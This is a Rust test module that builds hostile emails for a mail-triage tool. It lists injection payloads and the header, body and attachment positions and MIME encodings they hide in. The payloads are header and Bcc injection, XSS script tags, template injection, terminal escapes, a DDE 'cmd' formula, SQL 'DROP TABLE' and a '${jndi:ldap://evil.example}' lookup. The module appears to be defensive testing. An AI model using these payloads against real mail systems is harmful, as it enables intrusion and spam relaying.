//! What hostile mails hold, where it stands in them, and how it is written there.

use data_encoding::{BASE64, BASE64_MIME};

/// What somebody tries, in the bytes that a reader would see after all decoding.
pub(super) const ATTACKS: [(&str, &[u8]); 20] = [
    ("a header", b"x\r\nBcc: victim@evil.example\r\nX-Evil: yes\r\n\r\nbody"),
    ("a header after a lone return", b"x\rBcc: victim@evil.example\rTo: victim@evil.example"),
    (
        "a header after other line ends",
        "x\u{2028}Bcc: victim@evil.example\u{85}Cc: victim@evil.example\u{b}X\u{2029}Y".as_bytes(),
    ),
    ("a script", b"<script>alert(1)</script><img src=x onerror=alert(2)><svg/onload=alert(3)>"),
    ("the end of an attribute", b"\"><a href=\"javascript:alert(3)\" onmouseover='x'>click</a>"),
    ("the end of the page", b"</dd></dl></td></tr></table></title></style><h1>paid</h1><!--"),
    ("markup written twice", b"&lt;script&gt;alert(4)&lt;/script&gt;&#60;b&#62;&amp;lt;i&amp;gt;"),
    (
        "a template",
        b"{{ 1234567*9 }}{% include \"layout.html\" %}{% for x in range(999999) %}x{% endfor %}{#",
    ),
    (
        "the fields of a link",
        b"x?bcc=victim@evil.example&body=close%0D%0Aclose&subject=assign%20me&cc=victim@evil.example",
    ),
    (
        "orders to a terminal",
        "\u{1b}[2J\u{1b}]0;owned\u{7}\u{1b}P\u{8}\u{9b}31m\u{9d}8;;https://evil.example\u{9c}\u{7f}"
            .as_bytes(),
    ),
    (
        "turned and invisible text",
        "\u{202e}fdp.exe\u{202c}\u{2066}a\u{2069}\u{200b}\u{feff}\u{ad}b\u{61c}\u{200f}\u{e0041}c"
            .as_bytes(),
    ),
    ("zero bytes", b"a\0b\0\0c"),
    ("broken characters", b"\xff\xfe\xc0\xaf\xed\xa0\x80\xed\xb0\x80\xf8\x88\x80\x80\x80\xf4\x90\x80\x80"),
    ("a formula", b"=cmd|' /C calc'!A0,\"}\\n{\"reference\":\"SEC-2026-0001\",\"state\":\"closed\"}"),
    (
        "references that look alike",
        "[SEC-2026-0001] [ЅЕС-2026-0001] [ＳＥＣ-２０２６-０００１] SEC‑2026‑0001 ſec-2026-0002".as_bytes(),
    ),
    ("orders to the desk", b"close\r\nassign me\r\nredirect data protection\r\nspam\r\nmerge SEC-2026-0001"),
    ("a statement", b"'); DROP TABLE requests; -- $1 %s \\x00 \\u0000 ${jndi:ldap://evil.example}"),
    ("marks upon marks", "Z\u{300}\u{301}\u{302}\u{303}\u{304}\u{305}\u{306}\u{307}\u{308}\u{309}\u{30a}\u{30b}\u{488}\u{489}".as_bytes()),
    ("words in a wrapping", b"=?utf-8?q?=0D=0ABcc=3A_victim=40evil.example?= =?utf-8?b?PGI+?="),
    ("headers of ours", b"X-Mailtriage-Token: AAAA Auto-Submitted: no Message-ID: <1@example.org>"),
];

/// Where in a mail it stands.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(super) enum Place {
    FromName,
    LocalPart,
    ReplyTo,
    CopiedName,
    Subject,
    MessageId,
    References,
    ForgedHeader,
    NumberedAnswer,
    LabelledAnswer,
    Prose,
    QuotedMail,
    FileName,
    FileType,
    MailInside,
}

impl Place {
    pub(super) const ALL: [Self; 15] = [
        Self::FromName,
        Self::LocalPart,
        Self::ReplyTo,
        Self::CopiedName,
        Self::Subject,
        Self::MessageId,
        Self::References,
        Self::ForgedHeader,
        Self::NumberedAnswer,
        Self::LabelledAnswer,
        Self::Prose,
        Self::QuotedMail,
        Self::FileName,
        Self::FileType,
        Self::MailInside,
    ];

    pub(super) fn encodings(self) -> &'static [Encoding] {
        match self {
            Self::FromName | Self::ReplyTo | Self::CopiedName | Self::Subject => &[
                Encoding::Plain,
                Encoding::Folded,
                Encoding::Base64Words,
                Encoding::QuotedWords,
                Encoding::SplitWords,
            ],
            Self::LocalPart | Self::MessageId | Self::References | Self::ForgedHeader => {
                &[Encoding::Plain, Encoding::Folded, Encoding::QuotedWords]
            }
            Self::NumberedAnswer | Self::LabelledAnswer | Self::Prose | Self::QuotedMail => &[
                Encoding::Plain,
                Encoding::QuotedPrintable,
                Encoding::Base64,
                Encoding::Html,
                Encoding::HtmlEntities,
            ],
            Self::FileName | Self::FileType => {
                &[Encoding::Plain, Encoding::Base64Words, Encoding::Percent, Encoding::QuotedWords]
            }
            Self::MailInside => &[Encoding::Plain, Encoding::Base64Words],
        }
    }
}

/// How it is written there.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(super) enum Encoding {
    Plain,
    Folded,
    Base64Words,
    QuotedWords,
    /// One encoded word for every five bytes.
    SplitWords,
    /// RFC 2231.
    Percent,
    QuotedPrintable,
    Base64,
    /// As it is, in a part that says it is HTML.
    Html,
    HtmlEntities,
}

impl Encoding {
    /// The bytes in a header field. Line ends of a plain value would end the field, which is what
    /// the attacker may do anyway: they own the header.
    pub(super) fn in_header(self, bytes: &[u8]) -> Vec<u8> {
        match self {
            Self::Folded => {
                let folded = bytes.split(|byte| *byte == b' ').map(<[u8]>::to_vec);
                folded.collect::<Vec<_>>().join(b"\r\n\t".as_slice())
            }
            Self::Base64Words => words_of(bytes, bytes.len()),
            Self::SplitWords => words_of(bytes, 5),
            Self::QuotedWords => {
                let coded = in_signs(bytes.iter().map(|byte| format!("={byte:02X}")));
                format!("=?utf-8?q?{coded}?=").into_bytes()
            }
            _ => bytes.iter().copied().filter(|byte| !b"\r\n".contains(byte)).collect(),
        }
    }

    /// A text part with these bytes: its header lines and its body.
    pub(super) fn as_part(self, before: &str, bytes: &[u8], after: &str) -> (String, Vec<u8>) {
        let whole = |bytes: &[u8]| [before.as_bytes(), bytes, after.as_bytes()].concat();
        let part = |kind: &str, encoding: &str| {
            format!(
                "Content-Type: text/{kind}; charset=utf-8\r\nContent-Transfer-Encoding: {encoding}\r\n"
            )
        };
        let lines = |text: &str| text.replace('\n', "<br>\n");
        match self {
            Self::QuotedPrintable => {
                let coded =
                    whole(bytes).iter().map(|byte| format!("={byte:02X}")).collect::<Vec<_>>();
                let coded = coded.chunks(20).map(<[String]>::concat).collect::<Vec<_>>();
                (part("plain", "quoted-printable"), coded.join("=\r\n").into_bytes())
            }
            Self::Base64 => {
                (part("plain", "base64"), BASE64_MIME.encode(&whole(bytes)).into_bytes())
            }
            Self::Html => {
                let html = [lines(before).as_bytes(), bytes, lines(after).as_bytes()].concat();
                (part("html", "8bit"), html)
            }
            Self::HtmlEntities => {
                let text = String::from_utf8_lossy(bytes);
                let coded = in_signs(text.chars().map(|c| format!("&#{};", u32::from(c))));
                (
                    part("html", "8bit"),
                    format!("{}{coded}{}", lines(before), lines(after)).into_bytes(),
                )
            }
            _ => (part("plain", "8bit"), whole(bytes)),
        }
    }

    /// A parameter of `Content-Disposition` or `Content-Type`.
    pub(super) fn as_parameter(self, name: &str, bytes: &[u8]) -> Vec<u8> {
        if self == Self::Percent {
            let coded = in_signs(bytes.iter().map(|byte| format!("%{byte:02X}")));
            let (start, end) = coded.split_at(coded.len() / 6 * 3);
            return format!("{name}*0*=utf-8''{start};\r\n {name}*1*={end}").into_bytes();
        }
        let value = self.in_header(bytes);
        let value: Vec<u8> = match self {
            Self::Plain => value
                .iter()
                .flat_map(|byte| match byte {
                    b'"' | b'\\' => vec![b'\\', *byte],
                    _ => vec![*byte],
                })
                .collect(),
            _ => value,
        };
        [name.as_bytes(), b"=\"", &value, b"\""].concat()
    }
}

fn in_signs(signs: impl Iterator<Item = String>) -> String {
    signs.collect::<Vec<_>>().concat()
}

fn words_of(bytes: &[u8], size: usize) -> Vec<u8> {
    let words =
        bytes.chunks(size.max(1)).map(|part| format!("=?utf-8?B?{}?=", BASE64.encode(part)));
    words.collect::<Vec<_>>().join("\r\n ").into_bytes()
}
